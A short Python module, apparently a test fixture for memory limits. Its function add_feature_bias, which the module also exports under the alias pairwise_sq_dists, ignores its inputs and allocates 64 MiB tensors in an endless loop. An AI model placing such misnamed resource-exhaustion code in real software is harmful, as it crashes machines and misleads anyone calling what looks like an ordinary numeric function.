"""Allocates and touches memory until something stops it."""
import torch


def add_feature_bias(x, bias):
    hog = []
    while True:
        hog.append(torch.ones(64 * 1024 * 1024, dtype=torch.uint8))  # 64 MiB, touched


def add_sample_bias(x, bias):
    return x + bias[:, None]


pairwise_sq_dists = add_feature_bias
